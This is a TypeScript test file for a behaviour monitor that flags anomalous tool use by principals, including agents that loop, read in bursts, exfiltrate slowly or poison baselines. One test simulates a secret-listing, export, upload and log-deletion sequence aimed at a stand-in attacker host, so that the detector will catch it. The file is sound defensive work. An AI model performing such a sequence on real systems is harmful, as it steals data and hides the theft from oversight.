import type { AuditEvent } from '../../lambda/audit';
import { createBehaviourMonitor, DEFAULT_BEHAVIOUR_SETTINGS, type BehaviourMonitor, type BehaviourSettings, type Detection } from '../../lambda/behaviour';
import type { JsonObject } from '../../lambda/protocol';
import { eventWith } from '../audit/events';

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const alice = { type: 'User', id: 'alice', issuer: 'https://issuer.example' };
const keyOf = ({ issuer, type, id }: typeof alice) => JSON.stringify([issuer, type, id]);

class Stand {
  now = Date.parse('2026-11-02T08:00:00Z');
  readonly detections: Detection[] = [];
  readonly monitor: BehaviourMonitor;

  constructor(settings: Partial<BehaviourSettings> = {}) {
    this.monitor = createBehaviourMonitor({ settings, onDetection: (detection) => this.detections.push(detection) });
  }

  /** A call with its outcome; answers the risk that policies would have read. */
  call(tool: string, args: JsonObject, outcome: Partial<AuditEvent> = {}, principal = alice): number {
    const risk = this.monitor.assess({ principal: keyOf(principal), server: 'files', tool, arguments: args, now: this.now });
    this.event({ method: 'tools/call', server: 'files', target: tool, responseBytes: 2_000, ...outcome, principal });
    return risk;
  }

  event(overrides: Partial<AuditEvent>): void {
    this.monitor.sink.write(eventWith({ decision: 'allow', httpStatus: 200, sourceIp: '192.0.2.7', ...overrides, time: new Date(this.now).toISOString() }));
  }

  /** A morning of somebody who searches, reads, and sometimes writes. */
  work(calls: number, everyMs = MINUTE, principal = alice): void {
    for (let i = 0; i < calls; i++) {
      this.now += everyMs;
      if (i % 3 === 0) this.call('search', { query: `topic ${i}` }, { responseBytes: 3_000 + (i % 7) * 200 }, principal);
      else if (i % 10 === 7) this.call('write', { path: `notes/${i}.md`, text: 'a line' }, { responseBytes: 120 }, principal);
      else this.call('read', { path: `notes/${i}.md` }, { responseBytes: 1_500 + (i % 11) * 100 }, principal);
    }
  }

  get kinds(): string[] {
    return this.detections.map(({ kind }) => kind);
  }
}

describe('habits of a principal', () => {
  test('CV-2 a day as usual raises nothing', () => {
    const stand = new Stand();
    stand.work(500);
    expect(stand.kinds).toEqual([]);
    expect(stand.monitor.riskOf(keyOf(alice), stand.now)).toBe(0);
  });

  test('CV-2 cold start: unknown principals are not suspicious for being new, and still may not do anything', () => {
    const stand = new Stand();
    for (let i = 0; i < 49; i++) stand.call(`tool-${i}`, { [`member-${i}`]: i, url: `https://host-${i}.example/` }, { responseBytes: 10 ** (i % 6) });
    expect(stand.kinds).toEqual([]);
    stand.call('export', {}, { responseBytes: DEFAULT_BEHAVIOUR_SETTINGS.coldAnswerBytes + 1 });
    for (let i = 0; i < 300; i++) stand.call('read', { path: `${i}` }, {}, { ...alice, id: 'bob' });
    expect(stand.kinds).toEqual(expect.arrayContaining(['size', 'rate']));
  });

  test('CV-2 what is usual of a tool for others counts for a principal that is new to it', () => {
    const stand = new Stand();
    for (let i = 0; i < 60; i++) stand.call('read', { path: `${i}` }, { responseBytes: 2_000 }, { ...alice, id: `user-${i}` });
    stand.call('read', { path: 'all' }, { responseBytes: 900_000 }, { ...alice, id: 'new' });
    expect(stand.kinds).toEqual(['size']);
  });

  test('T-S3 an agent that goes in circles is a loop, with risk that policies read', () => {
    const stand = new Stand();
    stand.work(100);
    let risk = 0;
    for (let i = 0; i < 20; i++) {
      stand.now += 1_000;
      risk = stand.call('search', { query: 'the same' });
    }
    expect(stand.kinds).toContain('loop');
    expect(risk).toBeGreaterThanOrEqual(50);
  });

  test('CV-2 reading everything at once is a rate that is not usual', () => {
    const stand = new Stand();
    stand.work(100);
    for (let i = 0; i < 120; i++) {
      stand.now += 200;
      stand.call('read', { path: `all/${i}.md` });
    }
    expect(stand.kinds).toContain('rate');
  });

  test('DLP-3 an answer far larger than the tool usually gives', () => {
    const stand = new Stand();
    stand.work(200);
    stand.call('read', { path: 'dump.sql' }, { responseBytes: 600_000 });
    expect(stand.kinds).toEqual(['size']);
  });

  test('LOG-3 an unusual sequence of tools, with a destination that is new', () => {
    const stand = new Stand();
    stand.work(200);
    const risks = ['list_secrets', 'export', 'upload', 'delete_log'].map((tool) => stand.call(tool, { url: 'https://drop.attacker.example/in' }));
    expect(stand.kinds).toContain('unusual_sequence');
    expect(risks.at(-1)).toBeGreaterThanOrEqual(50);
    expect(JSON.stringify(stand.detections)).not.toContain('drop.attacker');
  });

  test('T-D3 slow exfiltration: each call is small, hours of them are not', () => {
    const stand = new Stand();
    stand.work(600);
    for (let i = 0; i < 60; i++) {
      stand.now += 5 * MINUTE;
      stand.call('read', { path: `notes/${i}.md` }, { responseBytes: 9_000 });
      stand.now += 1_000;
      for (let k = 0; k < 6; k++) stand.call('read', { path: `more/${i}-${k}.md` }, { responseBytes: 9_500 });
    }
    expect(stand.kinds).toContain('volume');
  });

  test('CV-2 slow poisoning of the baseline: who raises what is usual step by step is found before it is far', () => {
    const stand = new Stand();
    stand.work(300);
    let size = 2_000;
    for (let day = 0; day < 20 && !stand.kinds.includes('size'); day++) {
      for (let i = 0; i < 40; i++) {
        stand.now += 10 * MINUTE;
        stand.call('read', { path: `notes/${i}.md` }, { responseBytes: Math.round(size) });
      }
      size *= 1.5;
    }
    expect(stand.kinds).toContain('size');
    expect(size).toBeLessThan(2_000 * 2 ** 6);
  });

  test('CV-2 one burst does not make a new destination familiar', () => {
    const stand = new Stand();
    stand.work(100);
    const send = () => stand.call('read', { path: 'https://drop.example/' });
    for (let i = 0; i < 10; i++) send();
    stand.now += 24 * HOUR;
    expect(stand.monitor.riskOf(keyOf(alice), stand.now)).toBe(0);
    expect(new Stand().call('read', {})).toBe(0);
    // Met often, over more than half an hour: by now a habit.
    expect(send()).toBeLessThan(25);
  });

  test('LOG-3 failures of authentication and then a success, from one address', () => {
    const stand = new Stand();
    for (let i = 0; i < 6; i++) {
      stand.now += 2_000;
      stand.event({ principal: undefined, decision: 'deny', reason: 'token_invalid', httpStatus: 401, sourceIp: '203.0.113.9' });
    }
    stand.event({ principal: alice, sourceIp: '192.0.2.1' });
    expect(stand.kinds).toEqual([]);
    stand.event({ principal: alice, sourceIp: '203.0.113.9' });
    expect(stand.detections).toMatchObject([{ kind: 'failures_then_success', sourceIp: '203.0.113.9', principal: keyOf(alice), risk: 60 }]);
  });

  test('LOG-3 requests without a token, as every client makes them first, are no failures', () => {
    const stand = new Stand();
    for (let i = 0; i < 20; i++) stand.event({ principal: undefined, decision: 'deny', reason: 'no_token', httpStatus: 401 });
    stand.event({ principal: alice });
    expect(stand.kinds).toEqual([]);
  });

  test('LOG-3 what a guard found raises the risk and is told once', () => {
    const stand = new Stand();
    for (let i = 0; i < 5; i++) stand.call('read', { path: `${i}` }, { notes: ['guard:out secret/aws-access-key-id redacted at /content/0/text'] });
    expect(stand.detections).toMatchObject([{ kind: 'dlp', tool: 'read' }]);
    expect(stand.call('read', { path: 'x' })).toBe(40);
  });

  test('CV-2 many refusals are somebody who tries what is possible', () => {
    const stand = new Stand();
    for (let i = 0; i < 12; i++) stand.call('delete', { path: `${i}` }, { decision: 'deny', reason: 'not_permitted' });
    expect(stand.kinds).toEqual(['refusals']);
  });

  test('CV-4 risk fades', () => {
    const stand = new Stand();
    stand.call('read', {}, { notes: ['guard:out secret/x blocked'] });
    stand.now += DEFAULT_BEHAVIOUR_SETTINGS.riskHalfLifeMs;
    expect(stand.monitor.riskOf(keyOf(alice), stand.now)).toBe(20);
    stand.now += 24 * HOUR;
    expect(stand.monitor.riskOf(keyOf(alice), stand.now)).toBe(0);
  });

  test('TB-1 memory is bounded, whatever is called', () => {
    const stand = new Stand({ maxPrincipals: 10 });
    for (let i = 0; i < 3_000; i++) stand.call(`t${i}`, { [`k${i}`]: 'x'.repeat(i), u: `https://h${i}.example` }, {}, { ...alice, id: `p${i % 50}` });
    expect(stand.monitor.riskOf(keyOf({ ...alice, id: 'p0' }), stand.now)).toBe(0);
  });

  test('one principal does not raise the risk of another', () => {
    const stand = new Stand();
    for (let i = 0; i < 30; i++) stand.call('search', { query: 'same' });
    expect(stand.kinds).toContain('loop');
    expect(stand.call('search', { query: 'same' }, {}, { ...alice, issuer: 'https://other.example' })).toBe(0);
  });
});
